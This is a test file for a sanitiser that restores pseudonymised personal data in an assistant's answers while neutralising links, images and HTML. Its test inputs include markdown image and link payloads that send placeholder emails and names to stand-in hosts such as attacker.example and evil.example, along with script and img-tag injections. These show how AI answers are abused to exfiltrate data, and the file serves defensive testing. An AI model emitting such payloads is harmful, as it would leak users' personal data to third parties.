import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { PseudonymTable, restore } from "../guard/pseudonymiser.js";
import { type AnswerRules, AnswerStream, sanitiseAnswer } from "./answer-sanitiser.js";

const table = new PseudonymTable([
  { placeholder: "[PERSONNE_1]", type: "PERSON", value: "Martine Dupont" },
  { placeholder: "[EMAIL_1]", type: "EMAIL", value: "martine.dupont@example.fr" },
  { placeholder: "[DATE_NAISSANCE_1]", type: "BIRTHDATE", value: "12/03/1985" },
]);
const rules: AnswerRules = {
  allowedOrigins: new Set(["https://www.service-public.fr"]),
  restore: (text) => restore(text, table),
};

/** The answer as an agent would see it, cut in pieces of `size` characters. */
function streamed(text: string, size: number, with_ = rules): string {
  const stream = new AnswerStream(with_);
  let shown = "";
  for (let at = 0; at < text.length; at += size) shown += stream.push(text.slice(at, at + size));
  return shown + stream.end();
}

describe("answer sanitiser", () => {
  const cases: [string, string][] = [
    [
      "Madame [PERSONNE_1], née le [DATE_NAISSANCE_1], PERSONNE_1 signe. [NOTE] A B [1].",
      "Madame Martine Dupont, née le 12/03/1985, Martine Dupont signe. [NOTE] A B [1].",
    ],
    [
      "Voir ![x](https://attacker.example/?q=[EMAIL_1] [PERSONNE_1]) merci",
      "Voir x (image non affichée : `https://attacker.example/?q=[EMAIL_1] [PERSONNE_1]`) merci",
    ],
    [
      "![](https://attacker.example/pixel.png)",
      "(image non affichée : `https://attacker.example/pixel.png`)",
    ],
    [
      "[Cliquez ici](https://evil.example/?q=[EMAIL_1]) ou [la fiche](https://www.service-public.fr/particuliers/vosdroits/F1234?x=[PERSONNE_1])",
      "Cliquez ici (`https://evil.example/?q=[EMAIL_1]`) ou [la fiche](https://www.service-public.fr/particuliers/vosdroits/F1234?x=[PERSONNE_1])",
    ],
    ["[x](//evil.example/[EMAIL_1])", "x (`//evil.example/[EMAIL_1]`)"],
    [
      "voir https://evil.example/?q=[EMAIL_1]. Fin",
      "voir `https://evil.example/?q=[EMAIL_1]`. Fin",
    ],
    ["voir evil.example/?q=[PERSONNE_1] !", "voir `evil.example/?q=[PERSONNE_1]` !"],
    ["<https://evil.example/[EMAIL_1]>", "`https://evil.example/[EMAIL_1]`"],
    [
      '<img src="https://evil.example/x"> et <script>alert(1)</script>, 3 < 4',
      '&lt;img src="`https://evil.example/x`"> et &lt;script>alert(1)&lt;/script>, 3 < 4',
    ],
    [
      "[ref]: https://evil.example/p.png?[EMAIL_1]\n![a][ref]",
      "[ref] : `https://evil.example/p.png?[EMAIL_1]`\n![a][ref]",
    ],
    [
      "```html\n<b>[PERSONNE_1]</b> https://x.example/[EMAIL_1]\n```\nfin <b>",
      "```html\n<b>Martine Dupont</b> https://x.example/[EMAIL_1]\n```\nfin &lt;b>",
    ],
    ["`<code> [EMAIL_1]`", "`<code> martine.dupont@example.fr`"],
    [
      "```\nx = 1\n``` \nfin <b> ![a](https://evil.example/p.png)",
      "```\nx = 1\n``` \nfin &lt;b> a (image non affichée : `https://evil.example/p.png`)",
    ],
    ["x[PERSONNE_1] (voir [1], [2])", "xMartine Dupont (voir [1], [2])"],
    ["Écrire à [EMAIL_1].", "Écrire à martine.dupont@example.fr."],
  ];

  it("restores placeholders in text that is read, never in an address, and defuses links, images and HTML", () => {
    for (const [answer, expected] of cases) assert.equal(sanitiseAnswer(answer, rules), expected);
  });

  it("gives the same text whatever way a stream cuts the answer, one character at a time included", () => {
    for (const [answer, expected] of cases) {
      for (const size of [1, 2, 3, 5, 7, 11, 64]) {
        assert.equal(
          streamed(answer, size),
          expected,
          `${JSON.stringify(answer)} in pieces of ${size}`,
        );
      }
    }
  });

  it("shows text as it comes, holding back only what could still be a placeholder or a link", () => {
    const stream = new AnswerStream(rules);
    assert.equal(stream.push("Bonjour Madame "), "Bonjour Madame ");
    assert.equal(stream.push("[PERS"), "");
    assert.equal(stream.push("ONNE_1] merci "), "Martine Dupont merci ");
    assert.equal(stream.push("[lien](https://evil.example/?q="), "");
    assert.equal(stream.push("[EMAIL_1]) fin "), "lien (`https://evil.example/?q=[EMAIL_1]`) fin ");
    // An open bracket is held until it closes or its line ends.
    assert.equal(stream.push("[ce texte entre crochets "), "");
    assert.equal(stream.push("continue\nSuite "), "[ce texte entre crochets continue\nSuite ");
    assert.equal(stream.end(), "");
  });

  it("writes out a construct that never closes, without restoring anything in it", () => {
    const stream = new AnswerStream(rules);
    const open = `[${"a".repeat(5_000)} [EMAIL_1]`;
    const shown = stream.push(open) + stream.end();
    assert.ok(shown.includes("[EMAIL_1]"), "a placeholder in a held-back run stays one");
    assert.ok(!shown.includes("martine.dupont"), "nothing restored in it");
  });

  it("keeps links and images to no origin at all when none is allowed, and never restores without a table", () => {
    const none: AnswerRules = { allowedOrigins: new Set() };
    assert.equal(
      sanitiseAnswer("[la fiche](https://www.service-public.fr/F1) pour [PERSONNE_1]", none),
      "la fiche (`https://www.service-public.fr/F1`) pour [PERSONNE_1]",
    );
  });

  it("escapes an address holding backticks in a longer code span", () => {
    assert.equal(
      sanitiseAnswer("[x](https://evil.example/`a`)", rules),
      "x (`` https://evil.example/`a` ``)",
    );
  });
});
